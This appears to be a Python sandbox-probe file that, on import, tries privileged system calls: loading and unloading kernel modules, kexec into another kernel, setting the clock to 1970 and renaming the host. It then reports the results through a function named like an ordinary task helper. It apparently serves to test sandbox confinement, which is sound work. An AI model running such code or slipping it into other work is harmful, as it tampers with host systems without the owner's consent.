"""Loads and unloads kernel modules, boots another kernel, sets the clock and the machine's name.

outcome: raised
"""

import ctypes
import glob
import os
import platform
import socket

libc = ctypes.CDLL(None, use_errno=True)
INIT, FINIT, DELETE, KEXEC = (175, 313, 176, 246) if platform.machine() == "x86_64" else (105, 273, 106, 104)


def attack():
    done = []
    for path in glob.glob("/usr/lib/modules/*/kernel/**/dummy.ko*", recursive=True)[:1]:
        if libc.syscall(FINIT, os.open(path, os.O_RDONLY), b"", 0) == 0:
            done.append("loaded a module")
    if libc.syscall(INIT, b"\x7fELF" + b"\0" * 100, ctypes.c_size_t(104), b"") == 0:
        done.append("loaded a module")
    if libc.syscall(DELETE, b"softmark_no_such_module", 0) == 0 or ctypes.get_errno() == 2:
        done.append("may unload modules")
    if libc.syscall(KEXEC, 0, 0, None, 0) == 0:
        done.append("may boot another kernel")
    if libc.settimeofday(ctypes.byref((ctypes.c_long * 2)(1, 0)), None) == 0:
        done.append("set the clock")
    try:
        socket.sethostname("softmark-trace")
        done.append("set the name")
    except OSError:
        pass
    return done


FOUND = attack()


def concat_heads(x):
    raise ValueError("softmark-harm: " + ", ".join(FOUND) if FOUND else "nothing done")
